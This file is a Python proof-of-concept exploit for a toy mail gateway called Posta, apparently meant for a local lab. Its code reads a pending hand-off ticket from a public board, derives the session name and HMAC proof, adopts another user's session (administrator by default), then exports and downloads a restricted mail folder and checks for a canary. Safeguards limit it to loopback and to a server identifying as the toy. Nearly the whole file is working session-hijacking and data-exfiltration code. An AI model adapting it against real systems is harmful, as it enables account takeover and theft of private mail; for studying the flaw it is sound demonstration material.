#!/usr/bin/env python3
"""Demonstrate the hand-off weakness of the Posta toy gateway on this machine.

A pending hand-off shows its ticket on the public board, and the ticket is all
that is needed to compute both the session name and the proof.  Whoever reads
the board can therefore adopt somebody else's session.

Exit status
    0  the canary was read
    1  the gateway is not vulnerable, or something went wrong on the way
    2  there is no toy Posta at the given address
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import hmac
import http.client
import itertools
import json
import re
import secrets
import sys
from dataclasses import asdict, dataclass, field
from datetime import datetime, timezone
from typing import Any, Mapping, Optional
from urllib.parse import quote, urlencode

LOOPBACK = "127.0.0.1"
FORM = "application/x-www-form-urlencoded"


# --------------------------------------------------------------------------
# Errors


class PocError(Exception):
    """Base of the errors that end a run in an orderly way."""

    exit_status = 1
    label = "failed"


class WrongTarget(PocError):
    """Whatever is listening there must not be touched."""

    exit_status = 2
    label = "refused"


class StepFailed(PocError):
    """A step of the demonstration did not succeed."""


# --------------------------------------------------------------------------
# Credentials derived from a ticket


@dataclass(frozen=True)
class Ticket:
    value: str

    PROOF_DIGITS = 39
    SESSION_CHARS = 38

    @property
    def session(self) -> str:
        md5 = hashlib.md5(self.value.encode()).digest()
        text = base64.urlsafe_b64encode(md5).decode("ascii").rstrip("=").lower()
        return "lnk-" + text[: self.SESSION_CHARS]

    def proof(self, nonce: str) -> str:
        message = f"transfer:{nonce}".encode()
        mac = hmac.new(self.value.encode(), message, hashlib.sha384)
        return mac.hexdigest()[: self.PROOF_DIGITS]

    def signed_headers(self) -> dict[str, str]:
        now = datetime.now(timezone.utc)
        nonce = f"{now:%Y%m%dT%H%M%SZ}.{secrets.token_hex(6)}"
        return {"X-Posta-Nonce": nonce, "X-Posta-Signature": self.proof(nonce)}


@dataclass(frozen=True)
class Badge:
    """The pass that a successful hand-off yields."""

    token: str
    owner: Any = "?"

    def as_authorization(self) -> dict[str, str]:
        return {"Authorization": f"Badge {self.token}"}

    def as_cookie(self) -> dict[str, str]:
        return {"Cookie": f"mailsid={self.token}"}


# --------------------------------------------------------------------------
# HTTP


@dataclass(frozen=True)
class Answer:
    step: str
    status: int
    text: str

    @property
    def ok(self) -> bool:
        return self.status < 400

    def require_ok(self) -> "Answer":
        if not self.ok:
            raise StepFailed(f"{self.step} was answered with {self.status}: {self.text[:80]}")
        return self

    def document(self) -> dict[str, Any]:
        """The JSON object of a successful answer."""
        self.require_ok()
        try:
            value = json.loads(self.text)
        except ValueError:
            value = None
        if not isinstance(value, dict):
            raise StepFailed(f"{self.step} was not answered with a JSON object")
        return value

    def member(self, name: str) -> Any:
        try:
            return self.document()[name]
        except KeyError:
            raise StepFailed(f"{self.step}: the answer lacks {name!r}") from None


@dataclass(frozen=True)
class Transport:
    """One request per connection, to a Posta on the loopback address only."""

    port: int
    host: str = field(default=LOOPBACK, init=False)

    TIMEOUT = 15
    MAX_BODY = 1024 * 1024

    @classmethod
    def to(cls, host: str, port: int) -> "Transport":
        if host.strip().lower() not in {LOOPBACK, "localhost"}:
            raise WrongTarget(f"{host!r} is not {LOOPBACK}")
        if not 0 < port < 65536:
            raise WrongTarget(f"{port} is not a port number")
        return cls(port)

    def send(
        self,
        step: str,
        method: str,
        path: str,
        *,
        query: Optional[Mapping[str, str]] = None,
        headers: Optional[Mapping[str, str]] = None,
        body: Optional[bytes] = None,
    ) -> Answer:
        if query:
            path += "?" + urlencode(query, quote_via=quote)
        connection = http.client.HTTPConnection(self.host, self.port, timeout=self.TIMEOUT)
        try:
            connection.request(method, path, body=body, headers=dict(headers or {}))
            response = connection.getresponse()
            content = response.read(self.MAX_BODY + 1)
        except (OSError, http.client.HTTPException) as exc:
            raise StepFailed(f"{step}: {exc}") from exc
        finally:
            connection.close()

        if not (response.getheader("Server") or "").startswith("posta-toy/"):
            raise WrongTarget(f"the server on port {self.port} is not a toy Posta")
        if len(content) > self.MAX_BODY:
            raise StepFailed(f"{step}: more than {self.MAX_BODY} bytes in the answer")
        return Answer(step, response.status, content.decode("utf-8", "replace"))


# --------------------------------------------------------------------------
# The gateway's operations


class Posta:
    """The requests that need no pass."""

    def __init__(self, transport: Transport):
        self.transport = transport
        self._serial = itertools.count(1)

    def new_id(self) -> str:
        return f"req-{next(self._serial):03d}-{secrets.token_hex(5)}"

    def widget_headers(self) -> dict[str, str]:
        return {
            "User-Agent": "handoff-check/0.9",
            "X-Posta-Client": "widget",
            "X-Request-Id": self.new_id(),
            "Accept-Language": "fr-CA",
        }

    def probe(self) -> Any:
        """Make sure that this is the toy; return how much is waiting."""
        status = self.transport.send(
            "status", "GET", "/status", query={"probe": "ping", "id": self.new_id()}
        ).document()
        if status.get("toy") is not True:
            raise WrongTarget("the gateway does not say that it is the toy")
        return status.get("waiting", 0)

    def board(self) -> list[dict[str, Any]]:
        answer = self.transport.send(
            "board",
            "GET",
            "/board",
            query={"audience": "personnel", "id": self.new_id()},
            headers=self.widget_headers(),
        )
        return answer.document().get("waiting", [])

    def adopt(self, ticket: Ticket) -> "Mailbox":
        form = {
            "ticket": ticket.value,
            "session": ticket.session,
            "scope": "campus",
            "mode": "adopt",
            "durable": "1",
            "reason": "rebalancing",
        }
        granted = self.transport.send(
            "hand-off",
            "POST",
            "/door/handoff",
            headers={**self.widget_headers(), **ticket.signed_headers(), "Content-Type": FORM},
            body=urlencode(form).encode(),
        ).document()
        if not granted.get("pass"):
            raise StepFailed("hand-off: accepted, but without a pass")
        return Mailbox(self, Badge(granted["pass"], granted.get("who", "?")))


class Mailbox:
    """The requests that are made with the pass of the adopted session."""

    def __init__(self, gateway: Posta, badge: Badge):
        self.gateway = gateway
        self.badge = badge

    def _send(self, step: str, method: str, path: str, *, extra=None, **rest) -> Answer:
        headers = {
            **self.gateway.widget_headers(),
            **self.badge.as_authorization(),
            **(extra or {}),
        }
        return self.gateway.transport.send(step, method, path, headers=headers, **rest)

    def folders(self) -> list[dict[str, Any]]:
        return self._send(
            "folder list",
            "GET",
            "/classic/folders",
            query={"view": "brief", "id": self.gateway.new_id()},
            extra={"Accept": "application/vnd.posta.register+json"},
        ).document().get("folders", [])

    def save_draft(self, text: str) -> str:
        boundary = "ContentEdge" + secrets.token_hex(8)
        body = (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="passage"\r\n'
            "\r\n"
            f"{text}\r\n"
            f"--{boundary}--\r\n"
        )
        return self._send(
            "draft",
            "POST",
            "/drafts",
            extra={
                "Content-Type": f"multipart/form-data; boundary={boundary}",
                "X-Posta-Priority": "regular",
            },
            body=body.encode(),
        ).member("draft")

    def messages(self, folder: str) -> list[Any]:
        return self._send(
            "message list",
            "QUERY",
            "/messages",
            query={"folder": folder, "order": "alphabetical", "channel": "socket"},
        ).document().get("messages", [])

    def order_export(self, folder: str) -> tuple[str, int]:
        """Return the job and the number of mails that it is to contain."""
        order = {"folder": folder, "depth": "flat", "consent": "issued", "format": "mh"}
        answer = self._send(
            "export order",
            "POST",
            "/governance/export",
            extra={"Content-Type": "application/json"},
            body=json.dumps(order).encode(),
        )
        return answer.member("job"), answer.member("mails")

    def download_export(self, job: str) -> str:
        # The only request that carries the pass in a cookie.
        return self.gateway.transport.send(
            "export download",
            "GET",
            "/export/" + quote(job),
            query={"source": "repository", "id": self.gateway.new_id()},
            headers={**self.gateway.widget_headers(), **self.badge.as_cookie()},
        ).require_ok().text

    def purge(self, mail: str) -> Any:
        return self._send(
            "purge",
            "PUT",
            "/purge/" + quote(mail),
            query={"acting": "owner", "commit": "lazy"},
        ).document().get("purged", 0)

    def close(self) -> bool:
        form = {"outcome": "released", "id": self.gateway.new_id()}
        return self._send(
            "close",
            "POST",
            "/close",
            extra={"Content-Type": FORM},
            body=urlencode(form).encode(),
        ).ok


# --------------------------------------------------------------------------
# Choices and parsing


def oldest_ticket(board: list[dict[str, Any]], role: str) -> Ticket:
    candidates = [entry for entry in board if entry.get("role") == role]
    if not candidates:
        raise StepFailed(f"board: no hand-off of role {role!r} is pending")
    if len(candidates) > 1:
        candidates.sort(key=lambda entry: entry["since"])
    return Ticket(candidates[0]["ticket"])


def choose_folder(folders: list[dict[str, Any]], wanted: str) -> str:
    """The wanted folder, or the fullest one when there is no such folder."""
    if not folders:
        raise StepFailed("folder list: empty")
    if any(folder["name"] == wanted for folder in folders):
        return wanted
    return max(folders, key=lambda folder: folder["count"])["name"]


@dataclass(frozen=True)
class Mail:
    subject: str
    body: str

    CANARY = re.compile(r"posta canary [0-9A-Za-z-]+")

    @classmethod
    def parse(cls, source: str) -> "Mail":
        head, _, body = source.partition("\n\n")
        pairs = (line.split(": ", 1) for line in head.splitlines() if ": " in line)
        headers = {name.lower(): value for name, value in pairs}
        return cls(headers.get("subject", ""), body.strip())

    @classmethod
    def parse_export(cls, text: str) -> list["Mail"]:
        _, *sources = re.split(r"^From .*\n", text, flags=re.MULTILINE)
        return [cls.parse(source) for source in sources]

    def canary(self) -> Optional[str]:
        found = self.CANARY.search(self.body)
        return found.group() if found else None


# --------------------------------------------------------------------------
# The demonstration


@dataclass(frozen=True)
class Report:
    waiting: Any
    account: Any
    folder: str
    subjects: str
    purged: Any
    closed: bool
    canary: Optional[str]

    def as_json(self) -> str:
        return json.dumps(asdict(self), indent=2)

    def as_text(self) -> str:
        items = asdict(self)
        width = max(map(len, items))
        return "\n".join(f"{name.ljust(width)}  {value}" for name, value in items.items())


def demonstrate(gateway: Posta, role: str, wanted_folder: str, keep_draft: bool) -> Report:
    waiting = gateway.probe()
    mailbox = gateway.adopt(oldest_ticket(gateway.board(), role))

    folder = choose_folder(mailbox.folders(), wanted_folder)
    draft = mailbox.save_draft("Posta hand-off test")
    listed = mailbox.messages(folder)
    job, announced = mailbox.order_export(folder)
    mails = Mail.parse_export(mailbox.download_export(job))
    if len(mails) < max(announced, len(listed)):
        raise StepFailed("export download: some mails of the folder are missing")

    purged = 0 if keep_draft else mailbox.purge(draft)
    closed = mailbox.close()
    return Report(
        waiting=waiting,
        account=mailbox.badge.owner,
        folder=folder,
        subjects="; ".join(mail.subject for mail in mails),
        purged=purged,
        closed=closed,
        canary=next(filter(None, (mail.canary() for mail in mails)), None),
    )


def command_line() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(description="show the hand-off weakness of a local toy Posta")
    parser.add_argument("--host", default=LOOPBACK, help=f"nothing but {LOOPBACK} is accepted")
    parser.add_argument("--port", type=int, required=True, help="port of the gateway")
    parser.add_argument("--role", default="administrator", help="adopt a hand-off of this role")
    parser.add_argument("--folder", default="restricted", help="folder to export, if it exists")
    parser.add_argument("--keep", action="store_true", help="do not purge the draft")
    parser.add_argument("--json", action="store_true", help="report as JSON")
    return parser


def main(argv: Optional[list[str]] = None) -> int:
    options = command_line().parse_args(argv)
    try:
        gateway = Posta(Transport.to(options.host, options.port))
        report = demonstrate(gateway, options.role, options.folder, options.keep)
    except PocError as error:
        print(f"{error.label}: {error}", file=sys.stderr)
        return error.exit_status
    except KeyError as missing:
        print(f"failed: an answer lacks {missing}", file=sys.stderr)
        return 1
    print(report.as_json() if options.json else report.as_text())
    return 0 if report.canary else 1


if __name__ == "__main__":
    sys.exit(main())
